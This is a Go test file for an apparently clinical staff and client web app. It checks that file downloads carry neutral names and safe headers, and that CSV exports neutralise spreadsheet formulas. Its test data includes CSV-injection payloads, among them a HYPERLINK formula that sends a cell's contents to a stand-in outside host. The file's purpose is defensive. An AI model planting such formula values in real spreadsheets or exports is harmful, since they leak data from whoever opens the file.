// SPDX-License-Identifier: AGPL-3.0-or-later

package main

import (
	"encoding/csv"
	"mime"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/entente-project/entente/internal/app"
	"github.com/entente-project/entente/internal/care"
	"github.com/entente-project/entente/internal/web"
)

// theFiles are the routes that give a file to keep. TestFiles asks every route that
// only reads, and fails for one that gives a file and is not here.
var theFiles = []string{"GET /clients/{id}/access.csv", "GET /clients/{id}/course.svg", "GET /grants/{id}/file", "GET /library/{id}/questionnaire.json"}

// formulas are names that a spreadsheet would work out, or that break a table.
var formulas = []string{
	`=HYPERLINK("https://elsewhere.example/?"&A1,"see")`, `+39 055 1`, `-2+3`, `@SUM(A1:A9)`, `a "quoted", name; and more`, "Zoë Ægir 测试",
	"\u00a0=1+1", "＝1+1", "＋1", "－1", "＠A1",
}

// fileName is a name that says nothing of anybody.
var fileName = regexp.MustCompile(`^[a-z]{3,12}\.(csv|svg|txt|pdf|png|jpg|json)$`)

// TestFiles: whatever the program gives to be kept has a neutral name, and in a
// table no cell that a spreadsheet takes for a formula; each name is in it whole.
func TestFiles(t *testing.T) {
	t.Parallel()
	b := newBlock(t)
	b.formulasSee(t)
	var found []string
	for _, pattern := range web.Patterns() {
		if !strings.HasPrefix(pattern, "GET ") {
			continue
		}
		for _, role := range theRoutes[pattern].may {
			r := b.ask(pattern, role, b.ids[theRoutes[pattern].id], nil)
			kind, _, _ := strings.Cut(r.header.Get("Content-Type"), ";")
			page := kind == "text/html" || kind == "" || strings.HasPrefix(pattern, "GET /assets/") || slices.Contains([]string{"GET /health", "GET /pulse"}, pattern)
			if r.header.Get("Content-Disposition") == "" && page {
				continue
			}
			if r.status == 200 && !slices.Contains(found, pattern) {
				found = append(found, pattern)
			}
			b.soundFile(t, pattern, r)
		}
	}
	if slices.Sort(found); !slices.Equal(found, theFiles) {
		t.Errorf("files are given by %v", found)
	}
}

// formulasSee lets colleagues of such names look at the client.
func (b *block) formulasSee(t *testing.T) {
	t.Helper()
	in := must[app.SignedIn](t)(b.app.SignIn(t.Context(), app.Credentials{Email: "t@example.org", Password: demoPassword, Address: "x"}))
	me := must[app.Me](t)(b.app.Authenticate(t.Context(), in.Token)).Actor
	for i, name := range formulas {
		l := must[app.Link](t)(b.app.AddStaff(t.Context(), me, app.NewColleague{Name: name, Email: string(rune('a'+i)) + "-file@example.org", Language: "en", Roles: []care.Role{care.Therapist}}))
		in := must[app.SignedIn](t)(b.app.Join(t.Context(), l.Token, demoPassword, ""))
		by := must[app.Me](t)(b.app.Authenticate(t.Context(), in.Token)).Actor
		must[care.ID](t)(b.app.OpenEmergency(t.Context(), by, app.NewEmergency{Name: "CANARY-label", Reason: "a reason that is long enough"}))
	}
}

func (b *block) soundFile(t *testing.T, pattern string, r answer) {
	t.Helper()
	how, with, err := mime.ParseMediaType(r.header.Get("Content-Disposition"))
	if err != nil || how != "attachment" || !fileName.MatchString(with["filename"]) {
		t.Errorf("%s: %q is no neutral name of an attachment", pattern, r.header.Get("Content-Disposition"))
	}
	if r.header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(r.header.Get("Cache-Control"), "no-store") {
		t.Errorf("%s: may be kept on the way or taken for something else: %v", pattern, r.header)
	}
	if !utf8.ValidString(r.body) {
		t.Errorf("%s: not UTF-8", pattern)
	}
	if !strings.HasSuffix(pattern, ".csv") {
		return
	}
	if !strings.Contains(r.header.Get("Content-Type"), "charset=utf-8") {
		t.Errorf("%s: %s does not say the encoding", pattern, r.header.Get("Content-Type"))
	}
	rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll() // each row as wide as the first
	if err != nil {
		t.Fatalf("%s: %v", pattern, err)
	}
	all := map[string]bool{}
	for _, cell := range slices.Concat(rows...) {
		all[strings.TrimPrefix(cell, "'")] = true
		if c := strings.TrimSpace(cell); c != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(c)[0]) {
			t.Errorf("%s: a spreadsheet takes %q for a formula", pattern, cell)
		}
	}
	for _, name := range formulas {
		if !all[name] && !all[strings.TrimSpace(name)] {
			t.Errorf("%s: %q is not in it whole", pattern, name)
		}
	}
}
